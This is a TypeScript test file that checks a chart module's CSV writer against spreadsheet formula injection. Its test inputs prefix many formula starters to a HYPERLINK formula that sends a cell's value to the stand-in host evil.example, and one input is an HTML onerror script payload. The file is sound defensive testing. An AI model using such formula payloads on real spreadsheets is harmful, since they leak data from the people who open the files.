/** CSV files of the page: no text of a work acts as a formula, and all of it can be read back. */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { equal, is, ok } from 'uvu/assert';
import { csvOf } from '../../web/figures/charts/csv.ts';
import { suite } from '../harness.ts';

const root = path.join(import.meta.dirname, '../..');
/** What Excel, LibreOffice and Google Sheets take for the beginning of a formula. */
const beginnings = ['=', '+', '-', '@', '\t', '\r', '\n', ' =', '\t=', '\r\n+', '\u00a0=', '＝', '＋', '－', '＠'];
const texts = [
  ...beginnings.map((beginning) => `${beginning}HYPERLINK("http://evil.example/?"&A1,"a fox"),; x`),
  ...['an owl', "'quoted'", 'a "fox"', 'a,b;c', 'two\nlines', 'a\t=1+1', '', '\u202eשלום', '<img src=x onerror=alert(1)>'],
];

/** The cells of a CSV file as RFC 4180 has it, with one of these separators. */
function cellsOf(csv: string, separators: string): string[][] {
  const rows: string[][] = [[]];
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"\\r\\n${separators}]*))([${separators}]|\\r\\n)`, 'y');
  while (cell.lastIndex < csv.length) {
    const found = cell.exec(csv);
    if (!found) throw new Error('expected CSV');
    rows.at(-1)?.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
    if (found[3] === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

suite('CSV', (test) => {
  const csv = csvOf({
    head: ['Time', ...texts],
    rows: [
      [...texts, -1.5],
      [null, ...texts],
    ],
  });

  for (const separators of [',', ',;\\t'])
    test(`no cell begins as a formula, and none is torn, with the separators ${separators}`, () => {
      const [head = [], first = [], second = []] = cellsOf(csv.replace(/^\ufeff/, ''), separators);
      equal([head.length, first.length, second.length], [texts.length + 1, texts.length + 1, texts.length + 1]);
      for (const [at, text] of texts.entries())
        for (const cell of [head[at + 1], first[at], second[at + 1]]) {
          ok(cell === text || (cell === `'${text}` && beginnings.some((beginning) => text.startsWith(beginning))), JSON.stringify(cell));
          ok(!/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell ?? ''), JSON.stringify(cell));
        }
      is(first.at(-1), '-1.5', 'a number is one');
      is(second[0], '');
    });

  test('one place writes CSV', () => {
    const writers = ['lib', 'bin', 'web'].flatMap((folder) =>
      (readdirSync(path.join(root, folder), { recursive: true, encoding: 'utf8' }) as string[])
        .filter((name) => /\.tsx?$/.test(name))
        .map((name) => path.posix.join(folder, name.replaceAll(path.sep, '/')))
        .filter((name) => /text\/csv(?!\.ts)|\}\.csv/.test(readFileSync(path.join(root, name), 'utf8'))),
    );
    equal(writers, ['web/figures/charts/csv.ts']);
  });
});
